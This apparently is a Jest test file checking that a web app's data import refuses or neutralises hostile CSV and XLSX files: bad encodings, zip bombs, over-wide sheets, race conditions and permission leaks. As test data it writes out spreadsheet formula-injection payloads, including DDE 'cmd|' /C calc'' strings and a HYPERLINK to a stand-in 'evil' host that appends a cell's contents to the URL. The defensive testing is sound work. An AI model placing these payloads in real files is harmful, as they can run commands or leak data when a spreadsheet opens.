// Hostile import files (issue 35): each refused with a clear JSON error and nothing written or queued; a formula cell
// fails its own document only; a user who may not create gets per-document errors, not a 500.
import ExcelJS from 'exceljs';
import { zipBomb } from './zip-bomb';
import { createTestSite, createUser, type TestSite } from '../helpers/test-site';
import { callImportMethod, importFile, newImport, uploadFile, waitForJob } from './import-helpers';

let t: TestSite;
beforeAll(async () => {
  t = await createTestSite();
});
afterAll(() => t.close());

const todos = async () => Number((await t.site.db.knex('tabToDo').count({ n: '*' }).first())!.n);
const logs = async () => Number((await t.site.db.knex('tabData Import Log').count({ n: '*' }).first())!.n);

/** Uploads a file as a Data Import of ToDo; previews and starts it; both must be refused with `message`. */
async function refused(content: Buffer | string, fileName: string, message: RegExp): Promise<void> {
  const before = [await todos(), await logs()];
  const name = await newImport(t, t.adminToken, 'ToDo', await uploadFile(t, t.adminToken, content, fileName));
  for (const method of ['get_preview_from_template', 'form_start_import']) {
    const res = await callImportMethod(t, t.adminToken, method, { data_import: name });
    expect(res.status).toBe(400);
    expect(res.type).toBe('application/json');
    expect(res.body.exception ?? res.body.exc_type ?? JSON.stringify(res.body)).toMatch(message);
  }
  const record = await t.site.db.knex('tabData Import').where({ name }).first();
  expect(record.job_id).toBeNull();
  expect([await todos(), await logs()]).toEqual(before);
}

test('wrong encoding: a Latin-1 CSV', async () => {
  await refused(Buffer.from('description\nCaf\xe9 cr\xe8me\n', 'latin1'), 'latin1.csv', /not UTF-8/);
});

test('UTF-16 CSV with its BOM', async () => {
  await refused(Buffer.from('\ufeffdescription\nx\n', 'utf16le'), 'utf16.csv', /not UTF-8|Unknown columns/);
});

test('unknown columns are named', async () => {
  await refused(
    'description,owner_password,"bad`col"\nx,y,z\n',
    'unknown.csv',
    /Unknown columns for ToDo: "owner_password", "bad`col"/,
  );
});

test('a header cell missing over data', async () => {
  await refused('description,\nx,y\n', 'noheader.csv', /column 2 has no header/);
});

test('a line of 2 MB (a 50 MB line is refused by the same cap, or earlier by max_file_size)', async () => {
  await refused(`description\n"${'x'.repeat(2 << 20)}"\n`, 'long.csv', /line longer than 1048576/);
});

test('an XLSX zip bomb: 300 MB of zeros in 300 KB, with true and with lying sizes', async () => {
  for (const lie of [false, true]) {
    const bomb = await zipBomb(300 << 20, lie);
    expect(bomb.length).toBeLessThan(1 << 20);
    await refused(
      bomb,
      `bomb-${lie}.xlsx`,
      lie ? /larger than it declares: refused \(a zip bomb\?\)/ : /inflates to more than 256 MB/,
    );
  }
}, 60_000);

test('not a zip at all, named .xlsx; and a .txt file', async () => {
  await refused('description\nx\n', 'fake.xlsx', /not a valid XLSX/);
  await refused('description\nx\n', 'notes.txt', /must be a .csv or .xlsx/);
});

test('an XLSX cell holding a formula', async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('ToDo');
  sheet.addRow(['description']);
  sheet.addRow([{ formula: 'HYPERLINK("http://evil","x")', result: 'x' }]);
  await refused(Buffer.from(await book.xlsx.writeBuffer()), 'formula.xlsx', /holds a formula/);
});

test('a cell past column 1,000: an XLSX with one in column XFD per row, and a CSV line', async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('ToDo');
  sheet.addRow(['description']);
  for (let r = 2; r <= 2_000; r++) sheet.getCell(`XFD${r}`).value = 1;
  await refused(Buffer.from(await book.xlsx.writeBuffer()), 'wide.xlsx', /a cell past column 1000/);
  await refused(`description\nx${','.repeat(1_000)}y\n`, 'wide.csv', /a cell past column 1000/);
});

test('empty cells past column 1,000 and gaps between cells are no harm', async () => {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('ToDo');
  sheet.addRow(['description', 'status', 'priority']);
  sheet.addRow(['wide but empty', null, 'High']);
  sheet.getCell('XFD2').value = '';
  const xlsx = await importFile(
    t,
    t.adminToken,
    'ToDo',
    Buffer.from(await book.xlsx.writeBuffer()),
    'gap.xlsx',
  );
  expect(xlsx.job.result).toMatchObject({ success_count: 1, failure_count: 0 });
  const csv = await importFile(
    t,
    t.adminToken,
    'ToDo',
    `description\nempty tail${','.repeat(1_500)}\n`,
    't.csv',
  );
  expect(csv.job.result).toMatchObject({ success_count: 1, failure_count: 0 });
  const rows = await t.site.db.knex('tabToDo').whereIn('description', ['wide but empty', 'empty tail']);
  expect(rows.map((r) => [r.description, r.status, r.priority]).sort()).toEqual([
    ['empty tail', 'Open', 'Medium'],
    ['wide but empty', 'Open', 'High'],
  ]);
});

test('a preview of thousands of failing documents: 1,000 run through the document path, 1,000 warnings listed', async () => {
  const lines = ['description,priority'];
  for (let i = 0; i < 1_200; i++) lines.push(`=cmd${i},Low`);
  for (let i = 0; i < 1_100; i++) lines.push(`bad priority ${i},Nope`);
  const preview = await callImportMethod(t, t.adminToken, 'get_preview_from_template', {
    data_import: await newImport(
      t,
      t.adminToken,
      'ToDo',
      await uploadFile(t, t.adminToken, lines.join('\n'), 'many.csv'),
    ),
  });
  expect(preview.status).toBe(200);
  const data = preview.body.data;
  expect(data.payload_count).toBe(2_300);
  expect(data.checked_count).toBe(1_000);
  expect(data.warnings).toHaveLength(1_000);
  expect(data.warnings_count).toBe(2_200);
  expect(data.data).toHaveLength(20);
});

test('formula-injection text fails its document only; escaped text and numbers pass', async () => {
  const csv = [
    'description,priority',
    '"=cmd|\' /C calc\'!A0",Low',
    '@SUM(A1:A9),Low',
    '+cmd,Low',
    "'=1+1 as text,Low",
    '- a list item,Low',
    '-2,Low',
    'plain,Low',
  ].join('\n');
  const preview = await callImportMethod(t, t.adminToken, 'get_preview_from_template', {
    data_import: await newImport(t, t.adminToken, 'ToDo', await uploadFile(t, t.adminToken, csv, 'f.csv')),
  });
  expect(preview.status).toBe(200);
  expect(preview.body.data.warnings.map((w: any) => w.row)).toEqual([[2], [3], [4]]);
  expect(preview.body.data.warnings[0].message).toMatch(/would run as a spreadsheet formula/);
  const before = await todos();
  const { job } = await importFile(t, t.adminToken, 'ToDo', csv, 'f2.csv');
  expect(job.result).toEqual({ total: 7, success_count: 4, failure_count: 3 });
  expect(await todos()).toBe(before + 4);
  const texts = (await t.site.db
    .knex('tabToDo')
    .whereIn('description', ['=1+1 as text', '- a list item', '-2', 'plain'])
    .pluck('description')) as string[];
  expect(texts.sort()).toEqual(['- a list item', '-2', '=1+1 as text', 'plain']);
});

test('starting a partly failed import again retries its failed documents only', async () => {
  // The second document links a user who does not exist yet: it fails, then passes once the user exists.
  const csv = 'description,allocated_to\nfirst,\nlater,late@import.test\nsecond,\n';
  const before = await todos();
  const { name, job } = await importFile(t, t.adminToken, 'ToDo', csv, 'again.csv');
  expect(job.result).toEqual({ total: 3, success_count: 2, failure_count: 1 });
  await createUser(t, 'late@import.test', []);
  const again = await callImportMethod(t, t.adminToken, 'form_start_import', { data_import: name });
  expect(again.status).toBe(200);
  const rerun = await waitForJob(t, t.adminToken, again.body.data.job_id);
  expect(rerun.result).toEqual({ total: 3, success_count: 3, failure_count: 0 });
  expect(await todos()).toBe(before + 3);
  const rows = await t.site.db
    .knex('tabData Import Log')
    .where({ data_import: name })
    .orderBy('log_index')
    .select('log_index', 'success');
  expect(rows.map((r) => [Number(r.log_index), Number(r.success)])).toEqual([
    [0, 1],
    [1, 1],
    [2, 1],
  ]);
});

test('preview checks every document through the document path and writes nothing', async () => {
  const csv = 'description,status,priority\nok,Open,Low\nbad status,Nope,Low\n,Open,Low\n';
  const before = [await todos(), await logs()];
  const name = await newImport(t, t.adminToken, 'ToDo', await uploadFile(t, t.adminToken, csv, 'p.csv'));
  const res = await callImportMethod(t, t.adminToken, 'get_preview_from_template', { data_import: name });
  expect(res.status).toBe(200);
  expect(res.body.data.payload_count).toBe(3);
  expect(res.body.data.columns).toEqual(['description', 'status', 'priority']);
  expect(res.body.data.warnings.map((w: any) => [w.row, w.exc_type])).toEqual([
    [[3], expect.stringMatching(/Error$/)],
    [[4], expect.stringMatching(/Error$/)],
  ]);
  expect([await todos(), await logs()]).toEqual(before);
});

test('a user without read on Data Import gets the same 403 for a name that exists and one that does not', async () => {
  const name = await newImport(
    t,
    t.adminToken,
    'ToDo',
    await uploadFile(t, t.adminToken, 'description\nx\n', 'e.csv'),
  );
  const plain = await createUser(t, 'plain@import.test', []);
  for (const method of ['get_preview_from_template', 'form_start_import']) {
    const real = await callImportMethod(t, plain, method, { data_import: name });
    const missing = await callImportMethod(t, plain, method, { data_import: 'no-such-import' });
    expect([real.status, missing.status]).toEqual([403, 403]);
    expect(real.body.exception).toBe(missing.body.exception);
  }
  for (const method of ['get_import_status', 'download_errored_template']) {
    const real = await callImportMethod(t, plain, method, { data_import_name: name });
    const missing = await callImportMethod(t, plain, method, { data_import_name: 'no-such-import' });
    expect([real.status, missing.status]).toEqual([403, 403]);
  }
});

test('concurrent starts of one import: one queues the job, the others are refused, nothing twice', async () => {
  const csv = ['description', ...Array.from({ length: 300 }, (_, i) => `concurrent ${i}`)].join('\n');
  const name = await newImport(t, t.adminToken, 'ToDo', await uploadFile(t, t.adminToken, csv, 'c.csv'));
  const before = await todos();
  const starts = await Promise.all(
    [1, 2, 3].map(() => callImportMethod(t, t.adminToken, 'form_start_import', { data_import: name })),
  );
  expect(starts.map((r) => r.status).sort()).toEqual([200, 400, 400]);
  for (const r of starts.filter((s) => s.status === 400))
    expect(r.body.exception).toContain('This import is already running');
  const started = starts.find((r) => r.status === 200)!;
  await waitForJob(t, t.adminToken, started.body.data.job_id);
  expect(await todos()).toBe(before + 300);
  const record = await t.site.db.knex('tabData Import').where({ name }).first();
  expect(record.job_id).toBe(started.body.data.job_id);
  expect(record.status).toBe('Success');
});

test("the failed lines' file escapes the cells a spreadsheet would run; a DDE payload after a number fails", async () => {
  const csv = [
    'description,priority',
    '"=HYPERLINK(""http://evil/""&A1,""click"")",Low',
    '@SUM(1),Low',
    '"-2+3+cmd|\' /C calc\'!A0",Low',
    '+ 1+cmd,Low',
    '"+49 30 1234",Low',
  ].join('\n');
  const { name, job } = await importFile(t, t.adminToken, 'ToDo', csv, 'dde.csv');
  expect(job.result).toEqual({ total: 5, success_count: 1, failure_count: 4 });
  const failed = await callImportMethod(t, t.adminToken, 'download_errored_template', {
    data_import_name: name,
  });
  expect(failed.status).toBe(200);
  expect(failed.text.replace(/^\ufeff/, '').split('\n')).toEqual([
    'description,priority',
    `"'=HYPERLINK(""http://evil/""&A1,""click"")",Low`,
    "'@SUM(1),Low",
    `'-2+3+cmd|' /C calc'!A0,Low`,
    "'+ 1+cmd,Low",
    '',
  ]);
});

test('a Data Import naming no importable DocType is refused when saved', async () => {
  for (const doctype of ['Nope', 'Has Role', 'System Settings']) {
    const res = await t.http
      .post('/api/v2/document/Data Import')
      .set('Authorization', t.adminToken)
      .send({ reference_doctype: doctype, import_type: 'Insert New Records' });
    expect(res.status).toBe(400);
    expect(res.body.errors[0].message).toBe(`Document Type ${doctype} is not a DocType that can be imported`);
  }
  expect(await t.site.db.knex('tabData Import').whereIn('reference_doctype', ['Nope', 'Has Role'])).toEqual(
    [],
  );
});
